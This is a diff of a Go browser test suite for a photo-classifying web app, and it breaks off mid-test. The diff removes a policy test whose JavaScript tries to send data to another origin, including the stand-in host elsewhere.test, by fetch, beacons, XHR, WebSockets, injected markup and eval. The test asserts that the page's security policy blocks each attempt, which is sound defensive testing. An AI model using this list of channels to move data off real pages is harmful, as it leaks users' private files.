@@ -3,27 +3,86 @@ package test
 import (
 	"encoding/json"
 	"fmt"
-	"image"
-	"image/jpeg"
-	"net/http"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
-	"slices"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 
 	"github.com/chromedp/cdproto/dom"
+	"github.com/chromedp/cdproto/input"
 	cdppage "github.com/chromedp/cdproto/page"
-	"github.com/chromedp/cdproto/runtime"
-	"github.com/chromedp/cdproto/target"
 	"github.com/chromedp/chromedp"
 	"github.com/chromedp/chromedp/kb"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 )
+
+// tiles returns what a screen reader says of each photo in the grid, in order.
+func (p *page) tiles() []string {
+	p.t.Helper()
+	return eval[[]string](p, `[...document.querySelectorAll(".tile")].sort((a, b) => a.dataset.index - b.dataset.index).map((e) => e.getAttribute("aria-label"))`)
+}
+
+// press sends keys to what has the focus.
+func (p *page) press(keys ...string) {
+	p.t.Helper()
+	for _, k := range keys {
+		p.run(chromedp.KeyEvent(k))
+	}
+}
+
+// upload gives files to an input.
+func (p *page) upload(selector string, files []string) {
+	p.t.Helper()
+	p.run(chromedp.SetUploadFiles(chromedp.CSS(selector), files))
+}
+
+// reload loads the page again and waits until it is ready.
+func (p *page) reload() {
+	p.t.Helper()
+	p.do(`globalThis.before = true`)
+	p.run(chromedp.Reload())
+	p.waitFor(`globalThis.before === undefined`)
+	p.waitReady()
+}
+
+// undoKeys are those that take a decision back.
+func undoKeys() []chromedp.Action[chromedp.Void] {
+	return []chromedp.Action[chromedp.Void]{chromedp.KeyEvent("z", chromedp.KeyModifiers(chromedp.ModifierCtrl))}
+}
+
+// click clicks what a selector finds.
+func (p *page) click(selector string) {
+	p.t.Helper()
+	p.run(chromedp.Click(chromedp.CSS(selector)))
+}
+
+// point moves the pointer over what a selector finds.
+func (p *page) point(selector string) {
+	p.t.Helper()
+	at := eval[[]float64](p, fmt.Sprintf(`(() => { const e = document.querySelector(%q); e.scrollIntoView({ block: "center" }); const r = e.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2]; })()`, selector))
+	p.run(chromedp.MouseEvent(input.DispatchMouseEventTypeMouseMoved, at[0], at[1]))
+}
+
+// pick chooses an option of a list.
+func (p *page) pick(selector, value string) {
+	p.t.Helper()
+	p.do(fmt.Sprintf(`{ const e = document.querySelector(%q); e.value = %q; e.dispatchEvent(new Event("change")); }`, selector, value))
+}
+
+// set types text into a field as a person does.
+func (p *page) set(selector, text string) {
+	p.t.Helper()
+	p.do(fmt.Sprintf(`{ const e = document.querySelector(%q); e.focus(); e.select(); }`, selector))
+	p.press(text)
+}
+
+// waitTiles waits until the grid has so many photos in view.
+func (p *page) waitTiles(n int) {
+	p.t.Helper()
+	p.waitFor(fmt.Sprintf(`document.querySelectorAll(".tile").length === %d`, n))
+}
 
 func TestPhotos(t *testing.T) {
 	p := newPage(t)
@@ -32,36 +91,42 @@ func TestPhotos(t *testing.T) {
 	p.save("start")
 	p.choose(threePhotos(t)...)
 
-	assert.Equal(t, "3 photos", p.text("#summary"))
-	assert.Equal(t, []string{"stripes.png", "evening.jpg", "walk.jpeg"}, p.texts(".card .file"), "in the order given")
-	for _, sentence := range p.texts(".because") {
-		assert.Regexp(t, `^because there is [a-z ]+, [a-z ]+$`, sentence)
+	tiles := p.tiles()
+	require.Len(t, tiles, 3)
+	for i, name := range []string{"stripes.png", "evening.jpg", "walk.jpeg"} {
+		assert.Regexp(t, "^"+name+`: (perhaps )?(zebra|sunset|forest), [\d.]+ %, because there is [a-z ]+, [a-z ]+$`, tiles[i], "in the order given")
 	}
-	assert.Len(t, p.texts(".because"), 3)
-	for i, name := range p.texts(".category") {
-		assert.Contains(t, []string{"zebra", "sunset", "forest"}, strings.TrimPrefix(name, "perhaps "), "card %d", i)
-	}
-	assert.Equal(t, []int{320, 480, 360}, eval[[]int](p, `Promise.all([...document.images].filter((m) => m.closest(".card")).map((m) => m.decode().then(() => m.naturalWidth)))`),
-		"thumbnails are at most 480 pixels")
+	assert.Equal(t, []float64{256, 256, 192}, eval[[]float64](p, `Promise.all([...document.querySelectorAll(".tile img")].map((m) => m.decode().then(() => m.naturalWidth)))`),
+		"thumbnails are at most 256 pixels")
+	p.waitFor(`document.querySelector(".detail figure img").naturalWidth === 320`) // the whole photo, not its thumbnail
+	assert.Equal(t, "grid", eval[string](p, `document.activeElement.id`), "keys work at once")
 
-	p.do(`document.querySelector(".card details").open = true`)
-	shares := p.texts(".card:first-child .bars:first-of-type dd")
-	assert.Len(t, shares, 3, "one bar a category")
-	assert.Contains(t, p.text(".card:first-child .explain"), "looked at closely")
-	assert.Regexp(t, `^open .* · resize .* · image .* · reasons`, p.text(".card:first-child .timings"))
-	assert.Contains(t, p.text("#live"), "stripes.png: ")
+	// The photo in hand, with the reasons of whichever category is chosen.
+	assert.Equal(t, "stripes.png", p.text(".detail .file"))
+	assert.Len(t, p.texts(".detail section:first-of-type .bars li"), 3, "one bar a category")
+	second := p.text(".detail section:first-of-type li:nth-child(2) .row-name")
+	p.click(".detail section:first-of-type li:nth-child(2) .row-name")
+	assert.Contains(t, p.texts(".detail h3"), "Reasons for "+second)
+	assert.Contains(t, p.text(".detail"), "looked at closely")
+	assert.Regexp(t, `open .* · resize .* · image .* · reasons`, p.text(".detail .timings"))
 	p.save("desktop")
-	p.do(`document.querySelector("#labels").open = true`)
-	p.view(360, 3400, "light")
-	assert.Zero(t, eval[int](p, `document.documentElement.scrollWidth - 360`), "no sideways scrolling on a small phone")
-	p.save("phone")
-	p.view(1200, 1600, "dark")
+	p.view(1200, 900, "dark")
 	p.save("dark")
 
-	p.run(chromedp.Click(chromedp.CSS(".card:first-child .remove")))
-	assert.Equal(t, []string{"evening.jpg", "walk.jpeg"}, p.texts(".card .file"))
-	p.run(chromedp.Click(chromedp.CSS("#clear")))
-	assert.Empty(t, p.texts(".card"))
+	p.view(360, 740, "light")
+	p.waitTiles(3)
+	assert.Zero(t, eval[int](p, `document.documentElement.scrollWidth - 360`), "no sideways scrolling on a small phone")
+	p.save("phone")
+	p.click(".tile:nth-of-type(2)")
+	p.waitFor(`document.querySelector("#big").open`)
+	assert.Zero(t, eval[int](p, `document.querySelector("#big").scrollWidth - document.querySelector("#big").clientWidth`))
+	p.save("phone-photo")
+	p.press(kb.Escape)
+
+	p.view(1200, 900, "light")
+	p.click("#start-over")
+	p.click("#remove-all")
+	assert.Equal(t, "none", eval[string](p, `document.body.dataset.photos`))
 	assert.Empty(t, p.complaints())
 }
 
@@ -74,28 +139,56 @@ func TestRealWeights(t *testing.T) {
 	require.NotEmpty(t, s.assets.Embeddings)
 	assert.Empty(t, p.text("#notes"), "the prepared embeddings fit")
 	p.choose(threePhotos(t)...)
-	assert.Len(t, p.texts(".because"), 3)
-	p.do(`for (const d of document.querySelectorAll(".card details")) d.open = true`)
+	assert.Len(t, p.tiles(), 3)
 	p.save("desktop")
 	assert.Empty(t, p.complaints())
 }
 
-// answers returns each card's category, probability and reasons.
-func (p *page) answers() []string {
-	p.t.Helper()
-	p.waitIdle()
-	return eval[[]string](p, `[...document.querySelectorAll(".card")].map((c) => c.querySelector(".answer").textContent + " " + c.querySelector(".because").textContent)`)
+// TestJointTable reads the heat map by pointer and by keys.
+func TestJointTable(t *testing.T) {
+	p := newPage(t)
+	p.view(1400, 1100, "light")
+	p.open(tinySite(t).URL)
+	p.choose(threePhotos(t)...)
+	p.do(`document.querySelector(".detail details > summary").click()`)
+	p.waitFor(`document.querySelector(".heat")`)
+	assert.Len(t, p.texts(".heat thead th"), 4, "a column for each category, and the corner")
+	rows := len(p.texts(".heat tbody tr"))
+	assert.Positive(t, rows)
+	p.point(".heat tbody tr:nth-child(2) td:nth-child(3)")
+	pointed := p.text(".readout")
+	assert.Regexp(t, `^\w+, because there is [a-z ]+: [<>]? ?[\d.]+ %$`, pointed)
+	p.do(`document.querySelector(".heat td").focus()`)
+	first := p.text(".readout")
+	p.press(kb.ArrowDown, kb.ArrowRight)
+	assert.Equal(t, pointed, p.text(".readout"), "the same cell by keys")
+	p.press(kb.Home, kb.ArrowUp)
+	assert.Equal(t, first, p.text(".readout"))
+	sum := eval[float64](p, `[...document.querySelectorAll(".heat td")].map((c) => parseFloat(c.getAttribute("aria-label").match(/([\d.]+) %$/)[1])).reduce((a, b) => a + b)`)
+	assert.InDelta(t, 100, sum, 3, "the pairs' shares add up")
+	p.save("table")
+	assert.Empty(t, p.complaints())
 }
 
 func TestMethods(t *testing.T) {
 	p := newPage(t)
+	p.view(1400, 1000, "light")
 	p.open(tinySite(t).URL)
 	p.choose(threePhotos(t)...)
-	seen := map[string][]string{"ecor": p.answers()}
+	seen := map[string][]string{"ecor": p.tiles()}
+
+	// For one photo, with what changes.
+	p.click(`.detail input[value=clip] + span`)
+	p.waitFor(`document.querySelector(".changes")`)
+	assert.Equal(t, []string{"Category", "CLIP", "ECOR"}, p.texts(".changes th"))
+	assert.Equal(t, seen["ecor"], p.tiles(), "the others stay")
+	p.save("changes")
+
 	p.do(`globalThis.decoded = 0; const decode = createImageBitmap; globalThis.createImageBitmap = (...a) => (decoded++, decode(...a))`)
 	for _, method := range []string{"clip", "independent", "inverted", "joint", "ecor"} {
-		p.run(chromedp.Click(chromedp.CSS(fmt.Sprintf(`input[value=%s] + span`, method))))
-		now := p.answers()
+		p.pick("#method", method)
+		p.waitIdle()
+		now := p.tiles()
 		require.Len(t, now, 3)
 		if method == "ecor" {
 			assert.Equal(t, seen["ecor"], now, "back to where it was")
@@ -105,40 +198,35 @@ func TestMethods(t *testing.T) {
 			assert.NotEqual(t, answers, now, "%s and %s", method, other)
 		}
 		seen[method] = now
-		assert.NotContains(t, p.text(".timings"), "image", "%s: nothing of the image is done again", method)
 	}
-	assert.Contains(t, seen["clip"][0], "gives no reasons")
+	assert.NotContains(t, seen["clip"][0], "because")
+	assert.Zero(t, eval[int](p, `decoded`), "nothing of the image is done again")
 	assert.Empty(t, p.complaints())
-}
-
-// set types text into a field as a person does.
-func (p *page) set(selector, text string) {
-	p.t.Helper()
-	p.do(fmt.Sprintf(`{ const e = document.querySelector(%q); e.focus(); e.select(); }`, selector))
-	p.run(chromedp.KeyEvent(text))
 }
 
 func (p *page) waitApplied() {
 	p.t.Helper()
 	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Applied")`)
+	p.waitIdle()
 }
 
 func TestLabels(t *testing.T) {
 	p := newPage(t)
 	p.open(tinySite(t).URL)
 	p.choose(threePhotos(t)...)
-	before := p.answers()
-	p.run(chromedp.Click(chromedp.CSS("#labels > summary")))
+	before := p.tiles()
+	p.click("#labels-open")
 	assert.Equal(t, "3 categories, 7 reasons", p.text("#label-counts"))
 
 	// Searching finds reasons too.
 	p.set("#label-search", "shadows")
 	assert.Equal(t, []string{"sunset", "forest"}, p.texts("#label-list button"))
-	p.run(chromedp.KeyEvent(kb.Escape))
+	p.press(kb.Escape)
 	assert.Len(t, p.texts("#label-list button"), 3)
+	assert.True(t, eval[bool](p, `document.querySelector("#labels").open`), "Escape leaves the search first")
 
 	// Mistakes are named where they are made, and cannot be applied.
-	p.run(chromedp.Click(chromedp.CSS("#label-add")))
+	p.click("#label-add")
 	p.set("#label-name", "Zebra")
 	assert.Equal(t, `The category "Zebra" has no rationale; at least one is needed.`, p.text("#label-problem"))
 	assert.True(t, eval[bool](p, `document.querySelector("#label-apply").disabled`))
@@ -146,41 +234,56 @@ func TestLabels(t *testing.T) {
 	assert.Contains(t, p.text("#label-problem"), `rationale "a desk" is given twice`)
 	p.set("#label-rationales", "a desk\na lamp")
 	assert.Contains(t, p.texts("#label-list button.bad"), "zebra", "the second of the two that are equal")
+	p.save("problem")
 	p.set("#label-name", "office")
 	assert.Empty(t, p.text("#label-problem"))
+	p.do(`document.querySelector("#labels details").open = true`)
+	p.set("#template-rationale", "without a slot")
+	assert.Contains(t, p.text("#label-status"), "must contain {r} once")
+	p.do(`{ const e = document.querySelector("#template-rationale"); e.value = ""; e.dispatchEvent(new Event("input")); }`)
 
 	// Applying scores the photos again, from what is already known of them.
-	p.run(chromedp.Click(chromedp.CSS("#label-apply")))
+	p.click("#label-apply")
 	p.waitApplied()
-	after := p.answers()
+	after := p.tiles()
 	assert.NotEqual(t, before, after)
-	p.do(`document.querySelector(".card details").open = true`)
-	assert.Contains(t, p.texts(".card:first-child .bars:first-of-type dt"), "office")
-	assert.NotContains(t, p.text(".timings"), "image")
+	assert.Contains(t, p.texts(".detail .row-name"), "office")
 
-	// Export gives a pack that import takes; reset brings the first one back.
+	// Import; reset brings the first one back.
 	file := filepath.Join(t.TempDir(), "two.json")
 	require.NoError(t, os.WriteFile(file, []byte(`{"format":"ecor-labels-1","name":"two","categories":{"night":["a moon"],"day":["a sun"]}}`), 0o600))
 	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{file}))
 	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Imported two")`)
-	p.run(chromedp.Click(chromedp.CSS("#label-apply")))
+	p.click("#label-apply")
 	p.waitApplied()
-	for _, a := range p.answers() {
+	for _, a := range p.tiles() {
 		assert.Regexp(t, `night|day`, a)
 	}
-	p.run(chromedp.Click(chromedp.CSS("#label-reset")), chromedp.Click(chromedp.CSS("#label-apply")))
+	p.click("#label-reset")
+	p.click("#label-apply")
 	p.waitApplied()
-	assert.Equal(t, before, p.answers())
+	assert.Equal(t, before, p.tiles())
 
 	require.NoError(t, os.WriteFile(file, []byte(`{"format":"ecor-labels-1","categories":{"night":[]}}`), 0o600))
 	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{file}))
 	p.waitFor(`document.querySelector("#label-status").textContent.includes("was not imported")`)
 	assert.Contains(t, p.text("#label-status"), `"night" has no rationale`)
+
+	// The other packs of the project, and labels that survive a reload.
+	p.pick("#label-choice", "2")
+	assert.Contains(t, p.texts("#label-list button"), "pizza")
+	p.click("#label-apply")
+	p.waitApplied()
+	food := p.tiles()
+	p.reload()
+	p.waitTiles(3)
+	assert.Equal(t, food, p.tiles())
 	assert.Empty(t, p.complaints())
 }
 
 func TestBrokenFiles(t *testing.T) {
 	p := newPage(t)
+	p.view(1400, 900, "light")
 	p.open(tinySite(t).URL)
 	dir := t.TempDir()
 	write := func(name string, content []byte) string {
@@ -188,23 +291,32 @@ func TestBrokenFiles(t *testing.T) {
 		require.NoError(t, os.WriteFile(file, content, 0o600))
 		return file
 	}
+	first := writePhoto(t, dir, "first.png", "zebra", 200, 150)
+	same, err := os.ReadFile(first)
+	require.NoError(t, err)
 	p.choose(
-		writePhoto(t, dir, "first.png", "zebra", 200, 150),
+		first,
 		write("empty.jpg", nil),
 		write("letter.jpg", []byte(strings.Repeat("Dear reader, this is no photo. ", 20))),
 		write("bomb.png", pngHeader(30000, 30000)),
 		write("header.png", pngHeader(300, 200)),
+		write("again.png", same),
 		writePhoto(t, dir, "last.jpg", "forest", 200, 150),
 	)
+	tiles := p.tiles()
 	assert.Equal(t, []string{
-		"The file is empty (0 bytes).",
-		"This is not a JPEG, PNG, GIF or WebP image.",
-		"The image is 30000 × 30000 pixels, 900 million; the limit is 128 million.",
-		"The browser cannot decode this PNG file; it may be damaged.",
-	}, p.texts(".card .error"))
-	assert.Len(t, p.texts(".because"), 2, "the good ones are answered")
-	assert.Contains(t, p.text("#live"), "bomb.png: The image is 30000")
-	p.save("cards")
+		"empty.jpg: The file is empty (0 bytes).",
+		"letter.jpg: This is not a JPEG, PNG, GIF, WebP or AVIF image.",
+		"bomb.png: The image is 30000 × 30000 pixels, 900 million; the limit is 128 million.",
+		"header.png: The browser cannot decode this PNG file; it may be damaged.",
+	}, tiles[1:5])
+	p.waitFor(`document.querySelector("[data-index='5'] .why").textContent === "same as first.png"`)
+	assert.Contains(t, tiles[6], "last.jpg: ", "the good ones are answered")
+	assert.Contains(t, tiles[6], "because")
+	p.save("tiles")
+	p.click(`[data-index="4"]`)
+	assert.Contains(t, p.text(".detail .error"), "may be damaged")
+	p.save("one")
 	assert.Empty(t, p.complaints())
 }
 
@@ -225,351 +337,285 @@ func slowPack(t *testing.T) string {
 	return file
 }
 
-func TestCancel(t *testing.T) {
+// applyPack puts a label pack's file to use.
+func (p *page) applyPack(file string) {
+	p.t.Helper()
+	p.click("#labels-open")
+	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{file}))
+	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Imported")`)
+	p.click("#label-apply")
+	p.waitApplied()
+	p.press(kb.Escape)
+}
+
+func TestPauseAndCancel(t *testing.T) {
 	p := newPage(t)
 	p.open(tinySite(t).URL)
-	p.run(chromedp.SetUploadFiles(chromedp.CSS("#label-file"), []string{slowPack(t)}))
-	p.waitFor(`document.querySelector("#label-status").textContent.startsWith("Imported")`)
-	p.do(`document.querySelector("#label-apply").click()`)
-	p.waitApplied()
-	p.run(chromedp.SetUploadFiles(chromedp.CSS("#picker"), threePhotos(t)))
-	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)
+	p.applyPack(slowPack(t))
+	dir := t.TempDir()
+	var files []string
+	for i := range 12 {
+		files = append(files, writePhoto(t, dir, fmt.Sprintf("%02d.png", i), "forest", 120+i, 90))
+	}
+	p.start(files...)
+	p.waitFor(`!document.querySelector("#queue").hidden`)
+	p.click("#pause")
+	assert.Contains(t, p.text("#queue-text"), "Paused")
+	p.save("paused")
+	p.click("#pause")
 
 	started := time.Now()
-	p.run(chromedp.KeyEvent(kb.Escape))
+	p.click("#cancel")
 	p.waitIdle()
-	assert.Less(t, time.Since(started), 2*time.Second)
-	assert.Equal(t, slices.Repeat([]string{"Cancelled before it was done."}, 3), p.texts(".card .error"))
+	assert.Less(t, time.Since(started), 4*time.Second)
+	cancelled := eval[int](p, `document.querySelectorAll(".tile[data-state=failed]").length`)
+	assert.Positive(t, cancelled)
+	assert.Contains(t, p.text("#message"), "cancelled")
+	assert.Contains(t, p.text(`.tile[data-state=failed] .why`), "Cancelled before it was done.")
 
-	// Trying again works; another method or other labels overtake what is running.
-	p.do(`for (const b of document.querySelectorAll(".card button.quiet")) b.click()`)
-	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)
-	p.do(`document.querySelector("input[value=clip]").click()`)
+	// Trying again works.
+	p.click(`.tile[data-state=failed]`)
+	p.do(`[...document.querySelectorAll(".detail button")].find((b) => b.textContent === "Try again").click()`)
 	p.waitIdle()
-	assert.Len(t, p.texts(".because"), 3)
-	assert.Contains(t, p.text(".because"), "gives no reasons")
-	p.do(`document.querySelector("input[value=ecor]").click()`)
-	p.waitFor(`document.querySelector(".status")?.textContent.includes(" of ")`)
-	p.run(chromedp.KeyEvent(kb.Escape))
-	p.waitIdle()
-
-	p.do(`document.querySelector("#label-reset").click(); document.querySelector("#label-apply").click()`)
-	p.waitApplied()
-	for _, answer := range p.answers() {
-		assert.Regexp(t, "zebra|sunset|forest", answer)
-	}
+	assert.Equal(t, cancelled-1, eval[int](p, `document.querySelectorAll(".tile[data-state=failed]").length`))
 	assert.Empty(t, p.complaints())
 }
 
-// TestOffline ends the server after the first visit.
-func TestOffline(t *testing.T) {
-	s := tinySite(t)
+// TestDecisions marks photos by keys and buttons, filters them and takes it back.
+func TestDecisions(t *testing.T) {
 	p := newPage(t)
-	p.open(s.URL)
-	assert.Equal(t, "Ready offline", p.text("#offline"))
-	photos := threePhotos(t)
-	p.choose(photos...)
-	first := p.answers()
-
-	s.Server.CloseClientConnections()
-	s.Server.Close()
-	chromium.proxy.take()
-	p.run(chromedp.Reload())
-	p.open(s.URL)
-	assert.Equal(t, "Ready offline", p.text("#offline"))
-	p.choose(photos...)
-	assert.Equal(t, first, p.answers())
-	for _, request := range chromium.proxy.take() {
-		if !ofBrowser(request) {
-			assert.Equal(t, strings.TrimPrefix(s.URL, "http://")+" /sw.js", request, "only the browser's check of the service worker")
-		}
-	}
-	headers := eval[map[string]string](p, `(async () => {
-		const cache = await caches.open((await caches.keys())[0]);
-		const worker = (await cache.keys()).find((key) => key.url.includes("/worker.js?"));
-		return Object.fromEntries((await cache.match(worker)).headers);
-	})()`)
-	assert.Contains(t, headers["content-security-policy"], "connect-src 'none'")
-	assert.Contains(t, headers["cross-origin-embedder-policy"], "require-corp")
-}
-
-// ofBrowser tells requests that Chromium makes for itself, whatever the page.
-func ofBrowser(request string) bool {
-	host, _, _ := strings.Cut(request, " ")
-	return strings.HasSuffix(host, ".google.com:443") || strings.HasSuffix(host, ".googleapis.com:443")
-}
-
-// TestNothingLeaves records every request of a whole visit.
-func TestNothingLeaves(t *testing.T) {
-	s := tinySite(t)
-	p := newPage(t)
-	p.open(s.URL)
-	own := strings.TrimPrefix(s.URL, "http://") + " "
-	for _, request := range chromium.proxy.take() {
-		assert.True(t, strings.HasPrefix(request, own) || ofBrowser(request), request)
-	}
-	p.choose(threePhotos(t)...)
-	p.run(chromedp.Click(chromedp.CSS(`input[value=joint] + span`)))
-	p.answers()
-	for _, request := range chromium.proxy.take() {
-		assert.True(t, ofBrowser(request) || request == own+"/sw.js", "after installing: %s", request)
-	}
-}
-
-// attempts tries to send data away in every way that a script has.
-const attempts = `(async (there) => {
-	const failed = [];
-	const expect = (name, promise) => promise.then(() => {}, () => failed.push(name));
-	await expect("fetch", fetch(there + "/fetch", { mode: "no-cors", method: "POST", body: "a photo" }));
-	await expect("beacon", Promise.resolve().then(() => { if (globalThis.document && navigator.sendBeacon(there + "/beacon", "x")) return; throw 0; }));
-	await expect("request", new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("GET", there + "/xhr"); r.send(); }));
-	await expect("socket", new Promise((ok, no) => { const s = new WebSocket(there.replace("http", "ws") + "/socket"); s.onopen = ok; s.onerror = no; }));
-	await expect("events", new Promise((ok, no) => { const s = new EventSource(there + "/events"); s.onopen = ok; s.onerror = () => { s.close(); no(); }; }));
-	if (globalThis.document) {
-		await expect("image", new Promise((ok, no) => { const m = new Image(); m.onload = ok; m.onerror = no; m.src = there + "/image"; }));
-		await expect("style", new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = ok; l.onerror = no; l.href = there + "/style"; document.head.append(l); }));
-		await expect("script", Promise.resolve().then(() => { const e = document.createElement("script"); e.src = there + "/script"; }));
-		await expect("frame", Promise.resolve().then(() => { document.createElement("iframe").srcdoc = "x"; }));
-		await expect("markup", Promise.resolve().then(() => { document.body.innerHTML = "<img src=" + there + "/markup>"; }));
-	} else {
-		await expect("import", Promise.resolve().then(() => importScripts(there + "/import")));
-	}
-	await expect("eval", Promise.resolve().then(() => eval("1")));
-	return failed;
-})(%q)`
-
-// TestPolicy injects scripts that try to send data to another origin, into the
-// page and into its worker.
-func TestPolicy(t *testing.T) {
-	var reached atomic.Int32
-	there := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
-	defer there.Close()
-	p := newPage(t)
+	p.view(1400, 900, "light")
 	p.open(tinySite(t).URL)
+	dir := t.TempDir()
+	var files []string
+	for i, scene := range []string{"zebra", "sunset", "forest", "zebra", "sunset", "forest", "zebra", "sunset"} {
+		files = append(files, writePhoto(t, dir, fmt.Sprintf("%d %s.png", i, scene), scene, 200+10*i, 150))
+	}
+	p.choose(files...)
+	decisions := func() []string {
+		return eval[[]string](p, `[...document.querySelectorAll(".tile")].sort((a, b) => a.dataset.index - b.dataset.index).map((e) => e.dataset.decision)`)
+	}
 
-	fails := func(where *page, names ...string) {
+	p.press("k", "f", "r") // each goes to the next photo
+	assert.Equal(t, []string{"keep", "flag", "reject", "none", "none", "none", "none", "none"}, decisions())
+	assert.Contains(t, p.tiles()[1], ": flag")
+	p.run(undoKeys()...)
+	assert.Equal(t, "none", decisions()[2])
+	assert.Contains(t, eval[string](p, `document.querySelector(".tile.active").dataset.index`), "2", "back at the photo")
+	p.do(`document.querySelector("#redo").click()`)
+	assert.Equal(t, "reject", decisions()[2])
+
+	// Several at once, by shift and arrows.
+	p.do(`document.querySelector("#grid").focus()`)
+	p.click(`[data-index="3"] .name`)
+	p.run(chromedp.KeyEvent(kb.ArrowRight, chromedp.KeyModifiers(chromedp.ModifierShift)))
+	p.run(chromedp.KeyEvent(kb.ArrowRight, chromedp.KeyModifiers(chromedp.ModifierShift)))
+	assert.Equal(t, "3 chosen", p.text("#chosen span"))
+	p.press("t")
+	p.waitFor(`document.querySelector("#tag-sheet").open`)
+	p.set("#tags", "Trip, to print")
+	p.press(kb.Enter)
+	p.waitFor(`!document.querySelector("#tag-sheet").open`)
+	assert.Equal(t, []string{"Trip", "to print"}, p.texts(`[data-index="4"] .tags span`))
+	p.press("c")
+	p.waitFor(`document.querySelector("#correct-sheet").open`)
+	p.set("#correction", "meadow")
+	p.press(kb.Enter)
+	p.waitFor(`!document.querySelector("#correct-sheet").open`)
+	assert.Contains(t, p.tiles()[5], "meadow, by you")
+	assert.Contains(t, p.text(".detail .verdict"), "You say meadow; the model said")
+	p.save("decided")
+
+	// Filters, each alone.
+	shown := func(n int) {
 		t.Helper()
-		for _, origin := range []string{there.URL, "http://elsewhere.test"} {
-			v, err := chromedp.Run(where.ctx, chromedp.Evaluate[[]string](fmt.Sprintf(attempts, origin), chromedp.EvalAwaitPromise, denyEval))
-			require.NoError(t, err)
-			assert.Subset(t, v, names)
-		}
+		p.waitTiles(n)
+		assert.Contains(t, p.text("#shown"), fmt.Sprintf("%d of 8", n))
+		p.click("#filter-clear")
+		p.waitTiles(8)
 	}
-	fails(p, "fetch", "request", "socket", "events", "image", "style", "script", "frame", "markup", "eval")
-	fails(p.worker(), "fetch", "request", "socket", "events", "import", "eval")
-	assert.Zero(t, reached.Load())
-	for _, request := range chromium.proxy.take() {
-		assert.NotContains(t, request, "elsewhere.test")
+	p.pick("#filter-decision", "flag")
+	shown(1)
+	p.waitFor(`[...document.querySelector("#filter-category").options].some((o) => o.value === "meadow")`)
+	p.pick("#filter-category", "meadow")
+	shown(3)
+	p.pick("#filter-tag", "Trip")
+	shown(3)
+	p.set("#search", "4 SUN")
+	shown(1)
+	reason := eval[string](p, `[...document.querySelector("#filter-rationale").options].find((o) => o.value && !o.text.endsWith("(8)")).value`)
+	p.pick("#filter-rationale", reason)
+	p.waitFor(`document.querySelectorAll(".tile").length < 8`)
+	for _, tile := range p.tiles() {
+		assert.NotEmpty(t, tile)
 	}
-}
+	p.click("#filter-clear")
+	p.set("#filter-from", "101")
+	p.do(`document.querySelector("#filter-from").dispatchEvent(new Event("change"))`)
+	p.waitFor(`!document.querySelector("#nothing").hidden`)
+	assert.Contains(t, p.text("#nothing"), "No photo fits")
+	p.save("nothing")
+	p.click("#nothing button")
+	p.waitTiles(8)
+	p.do(`document.querySelector("#filter-unsure").click()`)
+	p.waitFor(`document.querySelector("#shown").textContent.includes(" of 8")`)
+	p.click("#filter-clear")
+	p.waitTiles(8)
 
-// denyEval holds a script to the page's policy where it calls eval itself.
-func denyEval(e *runtime.EvaluateParams) { e.AllowUnsafeEvalBlockedByCSP = new(bool) }
+	// Sorting.
+	p.pick("#sort", "share")
+	shares := eval[[]float64](p, `[...document.querySelectorAll(".tile")].sort((a, b) => a.dataset.index - b.dataset.index).map((e) => parseFloat(e.querySelector(".share").textContent)).filter((v) => v === v)`)
+	assert.IsDecreasing(t, append(shares, -1))
 
-// worker returns the page's worker.
-func (p *page) worker() *page {
-	p.t.Helper()
-	targets, err := chromedp.Targets(p.ctx)
-	require.NoError(p.t, err)
-	own := chromedp.FromContext(p.ctx).BrowserContextID
-	for _, info := range targets {
-		if info.Type == "worker" && info.BrowserContextID == own {
-			return p.attach(info.TargetID)
-		}
-	}
-	require.Fail(p.t, "the page has no worker", "%v", targets)
-	return nil
-}
+	// What vanishes behind a filter leaves its place to the next one.
+	p.pick("#sort", "added")
+	p.pick("#filter-decision", "none")
+	p.waitTiles(5)
+	p.click(`[data-index="0"] .name`)
+	p.press("k")
+	p.waitTiles(4)
+	assert.Equal(t, "0", eval[string](p, `document.querySelector(".tile.active").dataset.index`))
 
-func (p *page) attach(id target.ID) *page {
-	p.t.Helper()
-	ctx, cancel := chromedp.NewContext(p.ctx, chromedp.WithTargetID(id))
-	p.t.Cleanup(cancel)
-	require.NoError(p.t, chromedp.Do(ctx))
-	return &page{t: p.t, ctx: ctx}
-}
-
-// TestWorkerIsReplaced makes the module trap once: the photo is tried again in a new worker.
-func TestWorkerIsReplaced(t *testing.T) {
-	p := newPage(t)
-	p.open(tinySite(t).URL)
-	p.worker().do(`Uint8Array.prototype.set = () => { throw new WebAssembly.RuntimeError("unreachable") }`)
-	photos := threePhotos(t)
-	p.choose(photos...)
-	assert.Empty(t, p.texts(".card .error"))
-	assert.Len(t, p.texts(".because"), 3)
+	// Where single letters are switched off, they do nothing.
+	p.press("?")
+	p.waitFor(`document.querySelector("#help").open`)
+	p.do(`document.querySelector("#single-keys").click()`)
+	p.press(kb.Escape)
+	p.do(`document.querySelector("#grid").focus()`)
+	p.press("k")
+	assert.Len(t, p.tiles(), 4)
+	assert.Empty(t, p.complaints())
 }
 
 // TestKeyboard goes through the page without a pointer.
 func TestKeyboard(t *testing.T) {
 	p := newPage(t)
+	p.view(1400, 900, "light")
 	p.open(tinySite(t).URL)
 	at := func() string {
-		return eval[string](p, `(() => { const e = document.activeElement; return e.id || e.value || e.className || e.parentElement.id || e.parentElement.parentElement.className })()`)
+		return eval[string](p, `(() => { const e = document.activeElement; return e.id || e.className || e.tagName })()`)
 	}
-	press := func(keys string) { p.run(chromedp.KeyEvent(keys)) }
 	tab := func(want string) {
 		t.Helper()
-		press(kb.Tab)
+		p.press(kb.Tab)
 		require.Equal(t, want, at())
